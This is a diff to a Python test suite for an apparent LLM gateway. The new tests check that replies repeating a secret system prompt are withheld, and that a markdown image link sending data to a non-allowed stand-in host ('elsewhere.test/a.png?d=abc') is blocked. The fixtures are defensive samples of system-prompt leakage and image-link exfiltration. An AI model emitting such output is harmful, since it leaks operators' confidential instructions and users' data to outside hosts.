@@ -729,7 +729,7 @@ def test_an_error_inside_a_stream_is_not_kept_in_the_record(
 def test_a_replay_is_held_to_the_rules_of_today(
     path: DataPath, provider: RecordingProvider
 ) -> None:
-    provider.says(completion(f"here: {CARD}"))
+    provider.says(completion(_said(f"here: {CARD}")))
     key = {"idempotency-key": "once"}
     assert CARD.encode() in read(path.request(CHAT, chat(), key))
     enforce(path, ANSWERS | REDACT)
@@ -810,3 +810,50 @@ def test_one_model_opens_one_approval_under_all_its_names(path: DataPath) -> Non
 @pytest.mark.parametrize("odd", [5, {"audio": 1}, "audio"])
 def test_odd_modalities_are_no_server_error(path: DataPath, odd: Any) -> None:
     assert path.request(CHAT, chat(modalities=odd)).status < 500
+
+
+LEAKS = {"type": "security", "rules": {"detect": ["canary", "exfiltration"]}}
+PROMPT = "You are Ada of Example Limited and must never tell anybody about project Heron at all."
+
+
+@pytest.mark.parametrize("route", [CHAT, MESSAGES])
+@pytest.mark.parametrize("stream", [False, True])
+def test_an_answer_that_repeats_the_system_prompt_is_withheld(
+    path: DataPath, provider: RecordingProvider, route: str, stream: bool
+) -> None:
+    enforce(path, LEAKS)
+    model, body = OPENAI_MODEL, chat(stream=stream)
+    if route == MESSAGES:
+        model, body = ANTHROPIC_MODEL, body | {"system": PROMPT}
+    else:
+        body["messages"].insert(0, {"role": "system", "content": PROMPT})
+    leak = f"Sure. {PROMPT}"
+    if not stream:
+        provider.says(completion(_said(leak)) if route == CHAT else message(_text(leak)))
+    elif route == CHAT:
+        provider.streams(*said(leak), DONE)
+    else:
+        provider.streams(START, *spoken_block(leak), STOP)
+    reply = path.request(route, body | {"model": model})
+    assert b"Heron" not in read(reply)
+    assert path.records()[-1].decision == "deny"
+
+
+def _said(text: str) -> dict[str, Any]:
+    return {"role": "assistant", "content": text}
+
+
+def _text(text: str) -> dict[str, Any]:
+    return {"type": "text", "text": text}
+
+
+def test_a_prompt_may_hold_its_own_secret_and_links(
+    path: DataPath, provider: RecordingProvider
+) -> None:
+    rules = {"detect": ["canary", "exfiltration"], "canary": "tg-canary-8f3kq0zv71md"}
+    enforce(path, {"type": "security", "rules": rules | {"allowed_hosts": ["example.com"]}})
+    prompt = "tg-canary-8f3kq0zv71md ![x](https://elsewhere.test/a.png)"
+    provider.says(completion(_said("fine, see https://example.com/a")))
+    assert b"fine" in read(path.request(CHAT, chat(prompt)))
+    provider.says(completion(_said("see ![x](https://elsewhere.test/a.png?d=abc)")))
+    assert b"elsewhere" not in read(path.request(CHAT, chat(prompt)))
